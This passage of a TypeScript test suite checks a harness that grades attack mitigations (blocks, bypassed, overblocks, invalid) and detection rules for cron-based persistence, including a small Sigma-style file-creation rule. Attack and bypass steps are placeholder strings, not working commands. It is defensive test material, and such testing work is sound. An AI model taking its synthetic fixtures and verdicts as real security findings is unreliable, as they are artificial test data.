        const steps = [apply, look('closed'), attempt as (typeof others)[0], look('open'), ...others];
        expect(judge([checked(stopper)], steps, ran()).mitigations[0]).toMatchObject({
          verdict: 'bypassed',
          reason: expect.stringMatching(
            /^the payload ran all the same: .*; stopper no longer holds after it: .*: open$/,
          ),
        });
      });
    });

    it('names the kinds of all of them, each once', () => {
      const over = {
        mitigations: [stopper, other, not],
        legitimateNonces: ['beef', 'beef', 'beef'],
        steps: uses(3),
      };
      const { mitigations } = judged(treated(over, stopped()));
      expect(mitigations[0]).toMatchObject({ attack: 'M1018+M1022', legitimate: [{}, {}, {}] });
    });

    it('may stop what gets by the one that says so', () => {
      const around = {
        ...stopper,
        legitimate: [],
        bypasses: [{ how: 'another door', command: 'go around' }],
      };
      const steps = [
        step('attack', attackArgs, 1, 'You are not allowed to'),
        step('legitimate', legitimateArgs, 0),
        {
          ...step('bypass', ['/bin/sh', '-c', 'go around'], 1, 'it is locked'),
          startedAt: '2999-01-01T00:00:00.000Z',
        },
      ];
      const over = { mitigations: [around, other], legitimateNonces: ['beef', 'dead'], steps };
      expect(judged(treated(over, stopped())).mitigations[0]).toMatchObject({
        verdict: 'blocks',
        bypasses: [{ executed: false, detail: 'exit 1: it is locked' }],
      });
    });

    it('overblocks when one use no longer works, whichever it is', () => {
      const legitimateNonces = ['beef', 'dead'];
      const over = { mitigations: [stopper, other], legitimateNonces, steps: uses(2) };
      const { mitigations } = judged(treated(over, stopped()));
      expect(mitigations[0]).toMatchObject({
        verdict: 'overblocks',
        legitimate: [{ works: true }, { works: false }],
      });
    });
  });

  it('overblocks when legitimate use no longer works', () => {
    const record = judged(treated({}, [running(pid1), running(cron), exec(shell), exec(legitimateShell)]));
    expect(record.mitigations[0]).toMatchObject({ verdict: 'overblocks' });
    expect(record.mitigations[0]?.legitimate[0]?.detail).toContain('never ran');
  });

  it('is invalid when something else stopped the atomic', () => {
    const steps = [step('attack', attackArgs, 1, 'disk full'), step('legitimate', legitimateArgs, 0)];
    const record = judged(
      treated({ steps }, [running(pid1), running(cron), exec(shell), ...legitimateUse()]),
    );
    expect(record.mitigations[0]?.verdict).toBe('invalid');
  });

  describe('that declares more', () => {
    const refusedEvents = () => [running(pid1), running(cron), exec(shell), ...legitimateUse()];
    const refusedSteps = [
      step('attack', attackArgs, 1, 'You are not allowed to'),
      step('legitimate', legitimateArgs, 0),
    ];
    const ranEvents = () => [...attack(), ...launch(), ...legitimateUse()];
    const ranSteps = [step('attack', attackArgs, 0), step('legitimate', legitimateArgs, 0)];
    const withCheck = { ...stopper, check: { command: 'look', user: 'root', exitCode: 0, output: 'closed' } };
    const said = (role: 'mitigation' | 'check', exitCode: number, text: string) =>
      step(role, ['/bin/sh', '-c', role], exitCode, text);

    it.each([
      ['its command failed', 2, 0, 'closed', 'applying it ended with exit 2'],
      [
        'its check ends otherwise',
        0,
        1,
        'closed',
        "expects exit 0 and 'closed', and ended with exit 1: closed",
      ],
      ['its check finds otherwise', 0, 0, 'open', 'ended with exit 0: open'],
    ])('is invalid, whatever became of the atomic, when %s', (_, applied, exitCode, text, reason) => {
      const steps = [said('mitigation', applied, ''), said('check', exitCode, text)];
      for (const [own, events] of [
        [refusedSteps, refusedEvents],
        [ranSteps, ranEvents],
      ] as const) {
        const record = judged(treated({ mitigations: [withCheck], steps: [...steps, ...own] }, events()));
        expect(record.mitigations[0]?.verdict).toBe('invalid');
        expect(record.mitigations[0]?.reason).toContain(`stopper did not take effect: `);
        expect(record.mitigations[0]?.reason).toContain(reason);
        expect(record.cases[1]?.verdict).toBe('fail');
      }
    });

    it('blocks when its check holds, and says what it found', () => {
      const steps = [said('mitigation', 0, ''), said('check', 0, 'it is closed'), ...refusedSteps];
      const record = judged(treated({ mitigations: [withCheck], steps }, refusedEvents()));
      expect(record.mitigations[0]).toMatchObject({
        verdict: 'blocks',
        claims: 'stops',
        checks: [{ id: 'stopper', holds: true, detail: 'it is closed' }],
      });
    });

    const bypass = { how: 'root is never asked' };
    it.each([
      ['names the atomic', [{ ...bypass, atomic: 'atomic' }], true, 'notClaimed', 'pass', 'bypass'],
      [
        'names the atomic, which is stopped',
        [{ ...bypass, atomic: 'ATOMIC' }],
        false,
        'invalid',
        'fail',
        'bypass',
      ],
      ['names a tag of it', [{ ...bypass, tag: 'cron' }], true, 'notClaimed', 'pass', 'bypass'],
      ['names another', [{ ...bypass, atomic: 'other' }], false, 'notClaimed', 'pass', undefined],
    ])('is held to a bypass that %s', (_, bypasses, ran, verdict, outcome, claims) => {
      const mitigation = { ...aMitigation({ id: 'stopper', stops: ['other'] }), bypasses };
      const atomic = anAtomic({ tags: ['cron'] });
      const over = { atomic, mitigations: [mitigation], steps: ran ? ranSteps : refusedSteps };
      const record = judged(treated(over, ran ? ranEvents() : refusedEvents()));
      expect(record.mitigations[0]).toMatchObject({ verdict });
      expect(record.mitigations[0]?.claims).toBe(claims);
      expect(record.cases[1]?.verdict).toBe(outcome);
    });

    it('claims by a tag, and has an exception by name', () => {
      const stop = { tag: 'cron', stage: 'submission' as const, reason: 'not allowed' };
      const byTag = { ...stopper, stops: [stop] };
      const atomic = anAtomic({ tags: ['cron'] });
      const verdictUnder = (mitigation: typeof byTag) =>
        judged(treated({ atomic, mitigations: [mitigation], steps: refusedSteps }, refusedEvents()))
          .mitigations[0]?.verdict;
      expect(verdictUnder(byTag)).toBe('blocks');
      expect(verdictUnder({ ...byTag, bypasses: [{ ...bypass, atomic: 'atomic' }] })).toBe('invalid');
    });

    it.each([
      ['is broken', false, 'overblocks', 'pass'],
      ['works all the same', true, 'invalid', 'fail'],
    ])('is held to a documented use that %s', (_, works, verdict, outcome) => {
      const [use] = stopper.legitimate;
      const mitigation = { ...stopper, legitimate: use ? [{ ...use, broken: 'that is its price' }] : [] };
      const steps = [
        step('attack', attackArgs, 1, 'You are not allowed to'),
        step('legitimate', legitimateArgs, works ? 0 : 1),
      ];
      const record = judged(treated({ mitigations: [mitigation], steps }, refusedEvents()));
      expect(record.mitigations[0]).toMatchObject({
        verdict,
        legitimate: [{ works, documented: 'that is its price' }],
      });
      expect(record.cases[1]?.verdict).toBe(outcome);
    });

    it.each([
      ['gets by', 0, 'blocks'],
      ['does not get by', 1, 'invalid'],
    ])('is held to a command that %s', (_, exitCode, verdict) => {
      const mitigation = { ...stopper, legitimate: [], bypasses: [{ ...bypass, command: 'way around' }] };
      const steps = [
        step('attack', attackArgs, 1, 'You are not allowed to'),
        step('bypass', legitimateArgs, exitCode),
      ];
      const { mitigations } = judged(treated({ mitigations: [mitigation], steps }, refusedEvents()));
      expect(mitigations[0]).toMatchObject({ verdict, bypasses: [{ executed: exitCode === 0 }] });
    });

    it.each([
      ['before', '2999-01-01T00:00:00.000Z', 'invalid'],
      ['only once', '1970-01-01T00:00:00.000Z', 'overblocks'],
    ])(
      'is held to what a use does by itself: it ran %s the way around was tried',
      (_, startedAt, verdict) => {
        const [use] = stopper.legitimate;
        const mitigation = {
          ...stopper,
          legitimate: use ? [{ ...use, broken: 'that is its price' }] : [],
          bypasses: [{ ...bypass, command: 'start the daemon' }],
        };
        const steps = [
          step('attack', attackArgs, 1, 'You are not allowed to'),
          step('legitimate', legitimateArgs, 0),
          { ...step('bypass', legitimateArgs, 0), startedAt },
        ];
        const legitimateNonces = ['beef', 'beef'];
        const record = judged(
          treated({ mitigations: [mitigation], steps, legitimateNonces }, refusedEvents()),
        );
        expect(record.mitigations[0]).toMatchObject({ verdict });
      },
    );

    it.each([[[0, 1, 2, 3]], [[3, 2, 1, 0]], [[3, 0, 2, 1]], [[1, 3, 0, 2]]])(
      'takes legitimate use from the case in which it was tried, in the order %s',
      (order) => {
        const other = anAtomic({ slug: 'other', guid: '00000000-0000-4000-8000-000000000009' });
        const wide = aMitigation({ id: 'stopper', stops: ['atomic', 'other'] });
        const elsewhere = {
          id: 'other@debian12+stopper',
          atomic: other,
          mitigations: [wide],
          legitimateNonces: [],
          legitimateIn: 'atomic@debian12+stopper',
          steps: refusedSteps.slice(0, 1),
        };
        const cases = [
          control(),
          treated({ mitigations: [wide], steps: refusedSteps }, refusedEvents()),
          {
            evidence: evidence({ id: 'other@debian12', atomic: other }),
            events: [...attack(), ...launch()],
          },
          treated(elsewhere, [running(pid1), running(cron), exec(shell)]),
        ];
        const record = judgeRun(cases, book(cronRule), runFacts, order);
        expect(record.mitigations.map(({ verdict }) => verdict)).toEqual(['blocks', 'blocks']);
        expect(record.mitigations[1]).toMatchObject({
          legitimateIn: 'atomic@debian12+stopper',
          legitimate: [{ works: true }],
        });
        expect(runRecordSchema.parse(record)).toEqual(record);
        const without = judgeRun(
          cases,
          book(cronRule),
          runFacts,
          order.filter((at) => at !== 1),
        );
        expect(without.mitigations[0]).toMatchObject({ verdict: 'errored' });
        expect(without.mitigations[0]?.reason).toContain('atomic@debian12+stopper, which is not there');
      },
    );
  });

  it('is invalid when the atomic does not run without it either', () => {
    const dead = { evidence: evidence(), events: attack() };
    const record = judged(treated({}, [running(pid1), running(cron), exec(shell), ...legitimateUse()]), dead);
    expect(record.mitigations[0]).toMatchObject({ verdict: 'invalid', control: 'inert' });
  });
});

describe('rules over a whole run', () => {
  it('reports what fires in the idle control against the rule', () => {
    const idle: RecordedCase = {
      evidence: idleEvidence,
      events: [running(pid1), file('creation', '/etc/cron.d/noise', cron)],
    };
    const record = judgeRun([idle], book(cronRule), runFacts);
    expect(record.cases).toEqual([]);
    expect(record.rules[0]).toMatchObject({
      firedIn: [],
      falsePositives: [],
      crossTalk: [{ case: 'idle@debian12', eventIds: ['ebpf-2'] }],
    });
    expect(record.summary.rules).toMatchObject({ fired: 0, crossTalk: 1 });
  });

  const own = (slug: string, prefix: string, techniques: string[]): Rule => ({
    ...creationUnder(slug, prefix),
    techniques,
  });
  const ownBook = (...rules: Rule[]): RuleBook => ({ ...book(...rules), bundled: new Set() });
  const executed = (over: Partial<ProcedureEvidence> = {}): RecordedCase => ({
    evidence: evidence({ expectation: null, ...over }),
    events: [...attack(), ...launch()],
  });

  it.each<[string, string, string[], string[]]>([
    ['its own technique', '/etc/crond.d/', ['T1053.003'], ['T1053.003']],
    ['the technique above', '/etc/crond.d/', ['T1053'], ['T1053']],
    ['both, as one', '/etc/crond.d/', ['T1053', 'T1053.003'], ['T1053.003']],
    ['a technique that nothing executed', '/etc/crond.d/', ['T1053.002'], []],
    ['no technique', '/etc/crond.d/', [], []],
    ['a technique that it sees', '/etc/cron.d/', ['T1053.003'], []],
  ])('holds a rule of the user to its claim of %s', (_, prefix, techniques, silent) => {
    const [rule] = judgeRun([executed()], ownBook(own('mine', prefix, techniques)), runFacts).rules;
    expect(rule?.silent?.map(({ technique }) => technique) ?? []).toEqual(silent);
    for (const each of rule?.silent ?? []) {
      expect(each.attacks).toEqual(['atomic@debian12']);
      expect(each.nearest.text).toContain(`starts with "${prefix}"; saw file.path "${table}"`);
      expect(each.nearest.text).toContain('rule.yml:1:1');
    }
  });

  it('holds no bundled rule, no rule that nothing can feed and no documented miss to a claim', () => {
    const silent = own('mine', '/etc/crond.d/', ['T1053.003']);
    const claims = (rules: RuleBook, over: Partial<ProcedureEvidence> = {}) =>
      judgeRun([executed(over)], rules, runFacts).rules[0]?.silent;
    expect(claims(ownBook(silent))).toHaveLength(1);
    expect(claims(book(silent))).toBeUndefined();
    expect(claims({ ...ownBook(silent), unavailable: () => 'no sensor' })).toBeUndefined();
    const expectation = anExpectation({ evades: [{ rule: 'mine', why: 'it looks elsewhere' }] });
    expect(claims(ownBook(silent), { expectation })).toBeUndefined();
  });

  it('holds a correlation to its claim, and not the rules that only feed it', () => {
    const tagged = (title: string, body: string) =>
      `title: ${title}\nname: ${title}\nid: 0a000000-0000-4000-8000-00000000000${title.length}\ntags: [attack.t1053.003]\n${body}`;
    const { rules, problems } = loadRules([
      {
        file: 'base.yml',
        text: tagged(
          'base',
          'logsource: {product: linux, category: file_event}\ndetection:\n  sel: {TargetFilename|startswith: /etc/crond.d/}\n  condition: sel\n',
        ),
      },
      {
        file: 'many.yml',
        text: tagged(
          'manyof',
          'correlation:\n  type: event_count\n  rules: [base]\n  group-by: [User]\n  timespan: 1h\n  condition: {gte: 1}\n',
        ),
      },
    ]);
    expect(problems.filter(({ severity }) => severity === 'error')).toEqual([]);
    const record = judgeRun([executed()], ownBook(...rules), runFacts);
    const silent = Object.fromEntries(record.rules.map(({ slug, silent = [] }) => [slug, silent.length]));
    expect(silent).toEqual({ base: 0, many: 1 });
    expect(record.rules.find(({ slug }) => slug === 'many')?.silent?.[0]?.nearest.text).toMatch(
      /^it correlates base, and base does not match ebpf-\d+/,
    );
  });

  it('tells apart what fires on a benign twin and what fires on nobody', () => {
    const twin = executed({ id: 'twin@debian12', kind: 'benign' });
    twin.events.push(file('creation', '/etc/cron.d/noise', cron));
    const record = judgeRun([twin], ownBook(cronRule), runFacts);
    expect(record.rules[0]).toMatchObject({
      firedIn: [],
      falsePositives: [{ case: 'twin@debian12', eventIds: ['ebpf-4'] }],
      crossTalk: [{ case: 'twin@debian12', eventIds: [expect.stringMatching(/^ebpf-/)] }],
    });
    expect(record.cases[0]?.detections).toMatchObject([{ outcome: 'unexpected' }]);
    expect(record.summary.rules).toMatchObject({ fired: 0, falsePositives: 1, crossTalk: 1 });
  });

  it('gives the same record in whatever order the cases come', () => {
    const elsewhere = { guid: '00000000-0000-4000-8000-00000000000b', slug: 'other' };
    const other = { atomic: anAtomic(elsewhere), id: 'other@debian12' };
    const treated = { mitigations: [aMitigation({ id: 'stopper', stops: ['atomic', 'other'] })] };
    const cases: RecordedCase[] = [
      { evidence: idleEvidence, events: [running(pid1), file('creation', '/etc/cron.d/noise', cron)] },
      { evidence: idleEvidence, events: [running(pid1), file('creation', '/etc/cron.d/hum', cron)] },
      executed(),
      executed({ ...treated, id: 'atomic@debian12+stopper', legitimateNonces: ['beef'] }),
      executed(other),
      executed({ ...other, ...treated, id: 'other@debian12+stopper', legitimateNonces: ['beef'] }),
      executed({ id: 'twin@debian12', kind: 'benign', atomic: anAtomic({ slug: 'twin', guid: 'c' }) }),
      executed({ ...treated, id: 'lone@debian13+stopper', target: 'debian13', legitimateNonces: ['beef'] }),
    ];
    const rules = ownBook(cronRule, own('deaf', '/etc/crond.d/', ['T1053']));
    const facts = { ...runFacts, sensors: ['ebpf', 'journal'] };
    const inOrder = judgeRun(cases, rules, facts);
    expect(inOrder.mitigations.map(({ verdict }) => verdict)).toEqual(['bypassed', 'bypassed', 'invalid']);
    expect(inOrder.rules.find(({ slug }) => slug === 'deaf')?.silent?.[0]?.attacks).toHaveLength(2);
    fc.assert(
      fc.property(fc.shuffledSubarray([...cases.keys()], { minLength: cases.length }), (order) => {
        expect(judgeRun(cases, rules, facts, order)).toEqual(inOrder);
      }),
    );
  });

  it('tells the verdict of a treated case as soon as its control is in', () => {
    const control = executed();
    const treated = executed({
      id: 'atomic@debian12+stopper',
      mitigations: [aMitigation({ id: 'stopper', stops: ['atomic'] })],
      legitimateNonces: ['beef'],
    });
    const judged = [control, treated].map((one) => judgeCase(one.evidence, one.events, book(cronRule)));
    const [plain, mitigated] = judged as [JudgedCase, JudgedCase];
    const final = (order: [JudgedCase, number][]) => {
      const judge = new RunJudge(book(cronRule), ['ebpf']);
      return order.map(([one, at]) => judge.add(one, at).map(({ id, verdict }) => `${id} ${verdict}`));
    };
    const passed = 'atomic@debian12 pass';
    const failed = 'atomic@debian12+stopper fail';
    expect(
      final([
        [plain, 0],
        [mitigated, 1],
      ]),
    ).toEqual([[passed], [failed]]);
    expect(
      final([
        [mitigated, 1],
        [plain, 0],
      ]),
    ).toEqual([[], [passed, failed]]);
  });

  it('says in a case which rules had to forget', () => {
    const { rules } = loadRules([
      { file: 'chain.eql', text: 'sequence by file.path [file where true] [process where false]' },
    ]);
    const forgetful = { ...book(...rules), set: compileRules(rules, { fields: 'ecs', bounds: { keys: 2 } }) };
    const writes = ['a', 'b', 'c', 'd'].map((name) => file('creation', `/tmp/${name}`, shell));
    const { reasons } = verdictOf({}, [...attack(), ...writes, ...launch()], forgetful);
    expect(reasons).toEqual([expect.stringMatching(/^chain had to forget \d partial matches/)]);
  });

  it('says which rules nothing can feed', () => {
    const blind = ruleBook([cronRule], {
      unusable: [],
      bundled: new Set(),
      fields: 'ecs',
      sensorsFor: () => ['audit'],
    });
    expect(judgeRun([], blind, runFacts).rules[0]?.unavailable).toContain('audit');
  });

  it('counts which branches were proven', () => {
    const record = judgeRun(
      [{ evidence: evidence(), events: [...attack(), ...launch()] }],
      book(cronRule),
      runFacts,
    );
    expect(record.rules[0]?.branches).toEqual({ total: 1, proven: 1, unproven: [] });
  });
});
